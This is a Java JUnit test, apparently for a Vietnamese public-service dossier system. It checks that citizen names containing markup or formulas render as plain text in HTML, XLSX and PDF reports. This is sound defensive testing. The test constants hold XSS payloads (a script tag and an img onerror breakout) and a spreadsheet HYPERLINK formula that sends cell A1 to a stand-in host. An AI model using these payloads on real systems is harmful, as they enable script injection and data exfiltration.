// SPDX-License-Identifier: EPL-2.0
package org.motcua.reporting.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.motcua.core.dossier.Channel;
import org.motcua.core.workflow.DossierView;
import org.motcua.reporting.OutputFormat;
import org.motcua.reporting.ReportCatalog;
import org.motcua.reporting.ReportRequest;
import org.motcua.reporting.internal.BirtReportService;
import org.motcua.testsupport.TestProvinceWorld;

/**
 * Names are what citizens and desk officers type. A name that is markup or a formula comes out of every report
 * format as the text it is: escaped in HTML (a browser shows it, runs nothing), a text cell in XLSX (never a formula),
 * the same characters in PDF.
 */
class HostileNamesTest {

    static final String SCRIPT = "<script>alert(1)</script>";
    static final String ESCAPED = "&lt;b&gt;Lê Thị Bé&lt;/b&gt;";
    static final String FORMULA = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Bấm vào đây\")";
    static final String IMAGE = "Trần\"><img src=x onerror=alert(2)>";

    static TestProvinceWorld w;
    static BirtReportService reports;
    static Path out;
    static final List<DossierView> dossiers = new ArrayList<>();

    @BeforeAll
    static void receive() throws Exception {
        out = Pdfs.outputDir("hostile");
        reports = new BirtReportService();
        w = new TestProvinceWorld(TestProvinceWorld.h2("motcua-hostile"), SCRIPT);
        for (String name : List.of(SCRIPT, ESCAPED, FORMULA, IMAGE)) {
            dossiers.add(w.core.workflow().receive(w.desk, TestProvinceWorld.request(TestProvinceWorld.LAND,
                    Channel.WALK_IN, name)));
        }
    }

    @AfterAll
    static void close() {
        reports.shutdown();
        w.close();
    }

    private static Path register(OutputFormat format) throws Exception {
        Path file = out.resolve("register." + format.extension());
        try (Connection c = w.dataSource.getConnection()) {
            reports.render(ReportRequest.period(ReportCatalog.find("register").orElseThrow(), w.district.id(),
                    LocalDate.of(2025, 6, 1), LocalDate.of(2025, 6, 30), w.clock.now(), w.clock.now().plusDays(1), format,
                    file), c);
        }
        return file;
    }

    /** What a browser would run or load: none of it may be in the page as markup. */
    private static void inert(String html) {
        String lower = html.toLowerCase(java.util.Locale.ROOT);
        assertFalse(lower.contains("<script>alert"), "a script element from a name");
        assertFalse(lower.contains("<img src=x"), "an element from a name");
        assertFalse(lower.contains("<b>lê"), "markup from an escaped name");
        assertTrue(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;") || html.contains("&lt;script>alert(1)&lt;/script>"),
                "the name shown as text");
    }

    @Test
    void htmlFormAndRegisterShowTheNamesAsText() throws Exception {
        Path receipt = out.resolve("receipt.html");
        try (Connection c = w.dataSource.getConnection()) {
            reports.render(ReportRequest.form(ReportCatalog.find("receipt").orElseThrow(), dossiers.get(0).code(),
                    OutputFormat.HTML, receipt), c);
        }
        inert(Files.readString(receipt));
        String html = Files.readString(register(OutputFormat.HTML));
        inert(html);
        assertTrue(html.contains("&amp;lt;b&amp;gt;Lê Thị Bé"), "an already escaped name is escaped once more");
        assertTrue(html.contains("=HYPERLINK("), "the formula is plain text in a page");
    }

    @Test
    void xlsxHoldsTheNamesAsTextCellsNeverFormulas() throws Exception {
        List<Cell> named = new ArrayList<>();
        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(register(OutputFormat.XLSX).toFile())) {
            for (var sheet : book) {
                for (var row : sheet) {
                    for (Cell cell : row) {
                        assertTrue(cell.getCellType() != CellType.FORMULA, () -> "a formula in " + cell.getAddress());
                        if (cell.getCellType() == CellType.STRING && (cell.getStringCellValue().contains("HYPERLINK")
                                || cell.getStringCellValue().contains("<script>"))) {
                            named.add(cell);
                        }
                    }
                }
            }
        }
        assertEquals(2, named.size(), named::toString);
        assertTrue(named.stream().anyMatch(c -> c.getStringCellValue().startsWith(FORMULA)), named::toString);
    }

    @Test
    void pdfPrintsTheNamesAsTyped() throws Exception {
        String text = Pdfs.text(register(OutputFormat.PDF)).replaceAll("\\s+", " ");
        for (String name : List.of(SCRIPT, ESCAPED, "Bấm vào đây", "onerror=alert(2)>")) {
            assertTrue(text.contains(name), () -> "missing " + name + " in " + text);
        }
    }
}
